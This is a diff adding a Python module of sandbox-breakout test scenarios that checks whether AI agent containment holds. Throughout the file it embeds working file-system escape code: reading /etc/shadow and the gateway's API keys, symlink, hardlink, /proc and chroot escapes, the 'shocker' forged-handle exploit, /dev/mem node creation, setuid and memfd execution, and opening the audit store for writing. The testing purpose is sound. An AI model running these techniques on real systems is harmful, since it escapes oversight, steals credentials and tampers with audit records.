@@ -1,0 +1,194 @@
+"""File-system escapes: reading and writing outside the workspace, and executing."""
+
+from __future__ import annotations
+
+import os
+import shutil
+from pathlib import Path
+
+from sentinel.breakout.scenario import UNPRIVILEGED_UID, Family, Scenario
+from sentinel.breakout.scenarios.judges import file_appeared
+
+F = Family.FILESYSTEM
+UID = UNPRIVILEGED_UID
+
+
+def _setuid_copy(workspace: Path) -> None:
+    target = workspace / "suid-id"
+    shutil.copy("/usr/bin/id", target)
+    os.chown(target, 0, 0)
+    target.chmod(0o4755)
+
+
+READ_DIGEST = """
+def attack(A):
+    data = read_bytes({path!r})
+    if digest(data) == A[{fact!r}]:
+        escaped(f"read {path} ({{len(data)}} bytes, same digest as the host's)")
+    blocked(f"read a different {path} ({{len(data)}} bytes): not the host's file")
+"""
+
+READ_TOKEN = """
+def attack(A):
+    data = read_bytes({path})
+    if A["token"].encode() in data:
+        escaped(f"read {{len(data)}} bytes holding the decoy secret")
+    blocked("read a file without the decoy secret")
+"""
+
+EXEC_COPY = """
+import shutil, subprocess
+def attack(A):
+    target = os.path.join({directory!r}, "own-binary")
+    shutil.copy("/usr/bin/true", target)
+    os.chmod(target, 0o755)
+    subprocess.run([target], check=True)
+    escaped(f"executed {{target}}, a binary the agent wrote")
+"""
+
+SCENARIOS = [
+    Scenario("fs-read-shadow", F, "read the host's /etc/shadow",
+             ("bwrap", "landlock", UID), READ_DIGEST.format(path="/etc/shadow", fact="shadow_sha256")),
+    Scenario("fs-read-passwd", F, "read /etc/passwd, a world-readable host file outside the policy",
+             ("bwrap", "landlock"), READ_DIGEST.format(path="/etc/passwd", fact="passwd_sha256")),
+    Scenario("fs-list-host-home", F, "list the host's home directory /root", ("bwrap", "landlock", UID), """
+def attack(A):
+    names = os.listdir("/root")
+    escaped(f"listed /root: {len(names)} entries")
+"""),
+    Scenario("fs-read-other-agent", F, "read another agent's workspace (same uid, 0600 file)",
+             ("bwrap", "landlock"), READ_TOKEN.format(path='A["other_notes"]')),
+    Scenario("fs-read-gateway-secrets", F, "read the gateway's API keys (root-owned, 0600)",
+             ("bwrap", "landlock", UID), READ_TOKEN.format(path='A["gateway_secret"]')),
+    Scenario("fs-read-host-decoy", F, "read a world-readable host file outside the policy",
+             ("bwrap", "landlock"), READ_TOKEN.format(path='A["host_secret"]')),
+    Scenario("fs-write-outside", F, "create a file in a world-writable host directory",
+             ("bwrap", "landlock"), """
+def attack(A):
+    with open(os.path.join(A["host_dir"], "planted-" + A["token"]), "w") as handle:
+        handle.write("planted")
+    escaped("created a file outside the workspace")
+""", judge=file_appeared("host_dir", "planted-{token}")),
+    Scenario("fs-write-usr", F, "create a file under /usr/local (read-only for agents)",
+             ("bwrap", "landlock", UID), """
+def attack(A):
+    with open(A["usr_target"], "w") as handle:
+        handle.write("planted")
+    escaped(f"created {A['usr_target']}")
+""", judge=file_appeared("usr_target")),
+    Scenario("fs-tamper-audit-store", F, "open the audit store for writing", ("bwrap", "landlock", UID), """
+def attack(A):
+    fd = os.open(A["store_path"], os.O_WRONLY | os.O_APPEND)
+    os.close(fd)
+    escaped("opened the audit store for writing (nothing written)")
+"""),
+    Scenario("fs-dotdot", F, "climb out of the workspace with ../ and read /etc/passwd",
+             ("bwrap", "landlock"), """
+def attack(A):
+    path = os.getcwd() + "/.." * 12 + "/etc/passwd"
+    data = read_bytes(path)
+    if digest(data) == A["passwd_sha256"]:
+        escaped(f"read the host's /etc/passwd through {path}")
+    blocked("reached a different /etc/passwd")
+"""),
+    Scenario("fs-symlink-read", F, "read /etc/passwd through a symlink planted in the workspace",
+             ("bwrap", "landlock"), """
+def attack(A):
+    os.symlink("/etc/passwd", "innocent.txt")
+    data = read_bytes("innocent.txt")
+    if digest(data) == A["passwd_sha256"]:
+        escaped("read the host's /etc/passwd through a workspace symlink")
+    blocked("the symlink led to a different file")
+"""),
+    Scenario("fs-symlink-write", F, "write outside through a symlink planted in the workspace",
+             ("bwrap", "landlock"), """
+def attack(A):
+    os.symlink(os.path.join(A["host_dir"], "via-link-" + A["token"]), "output.log")
+    with open("output.log", "w") as handle:
+        handle.write("planted")
+    escaped("wrote through a symlink to a host directory")
+""", judge=file_appeared("host_dir", "via-link-{token}")),
+    Scenario("fs-hardlink", F, "hard-link a host file into the workspace and read it",
+             ("bwrap", "landlock"), """
+def attack(A):
+    os.link(A["host_secret"], "linked.txt")
+    if A["token"].encode() in read_bytes("linked.txt"):
+        escaped("hard-linked a host file into the workspace and read it")
+    blocked("the link holds other content")
+"""),
+    Scenario("fs-proc-self-root", F, "read /etc/passwd through /proc/self/root",
+             ("bwrap", "landlock"), READ_DIGEST.format(path="/proc/self/root/etc/passwd", fact="passwd_sha256")),
+    Scenario("fs-proc-pid-root", F, "read host files through another agent's /proc/<pid>/root",
+             ("bwrap", "landlock"), """
+def attack(A):
+    path = f"/proc/{A['decoy']['pid']}/root/etc/passwd"
+    if digest(read_bytes(path)) == A["passwd_sha256"]:
+        escaped(f"read the host's /etc/passwd through {path}")
+    blocked("reached a different /etc/passwd")
+"""),
+    Scenario("fs-open-by-handle", F,
+             "open the file system's root by a forged handle (open_by_handle_at, 'shocker')",
+             ("seccomp", UID), """
+class Handle(ctypes.Structure):
+    _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int),
+                ("f_handle", ctypes.c_ubyte * 8)]
+def attack(A):
+    # ext4 keeps the root directory in inode 2, generation 0 (FILEID_INO32_GEN = 1)
+    handle = Handle(8, 1, (ctypes.c_ubyte * 8)(2, 0, 0, 0, 0, 0, 0, 0))
+    mount_fd = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
+    fd = syscall(304, mount_fd, ctypes.byref(handle), os.O_RDONLY | os.O_DIRECTORY)
+    names = sorted(os.listdir(fd))
+    if "etc" in names:
+        escaped(f"opened the host file system's root by handle: {names[:6]}")
+    blocked(f"opened a directory without /etc: {names[:6]}")
+"""),
+    Scenario("fs-block-device", F, "read the host's disk through its block device",
+             ("bwrap", UID), """
+def attack(A):
+    data = read_bytes(A["block_device"], 512)
+    escaped(f"read {len(data)} bytes of {A['block_device']}")
+""", precondition=lambda arena: arena.facts["block_device_refused"]),
+    Scenario("fs-mknod", F, "create a device node for /dev/mem in the workspace",
+             ("bwrap", "landlock", UID), """
+import stat
+def attack(A):
+    os.mknod("mem", stat.S_IFCHR | 0o600, os.makedev(1, 1))
+    escaped("created a character device node (1, 1) = /dev/mem")
+"""),
+    Scenario("fs-exec-workspace", F, "execute a binary the agent wrote into its workspace",
+             ("landlock",), EXEC_COPY.format(directory=".")),
+    Scenario("fs-exec-tmp", F, "execute a binary the agent wrote into /tmp", ("landlock",),
+             EXEC_COPY.format(directory="/tmp")),
+    Scenario("fs-exec-memfd", F, "execute a binary from an anonymous memory file (memfd)",
+             ("landlock",), """
+import subprocess
+def attack(A):
+    fd = os.memfd_create("payload", 0)
+    os.write(fd, read_bytes("/usr/bin/true", 1 << 24))
+    subprocess.run([f"/proc/self/fd/{fd}"], pass_fds=(fd,), check=True)
+    escaped("executed a binary from a memfd")
+"""),
+    Scenario("fs-setuid-binary", F, "gain root through a setuid-root binary in the workspace",
+             ("landlock", "bwrap", "seccomp"), """
+import subprocess
+def attack(A):
+    euid = subprocess.run(["./suid-id", "-u"], capture_output=True, check=True).stdout.strip()
+    if euid == b"0":
+        escaped("a setuid-root binary ran with effective uid 0")
+    blocked(f"the setuid binary ran without privilege (euid {euid.decode()})")
+""", control="nobody", setup=_setuid_copy),
+    Scenario("fs-chroot-escape", F, "escape a chroot with a saved directory fd and ../ (classic)",
+             ("seccomp", UID), """
+def attack(A):
+    os.makedirs("jail", exist_ok=True)
+    outside = os.open(".", os.O_RDONLY)
+    os.chroot("jail")
+    os.fchdir(outside)
+    for _ in range(64):
+        os.chdir("..")
+    os.chroot(".")
+    if digest(read_bytes("/etc/passwd")) == A["passwd_sha256"]:
+        escaped("left the chroot and read the host's /etc/passwd")
+    blocked("the chroot held")
+"""),
+]  # fmt: skip
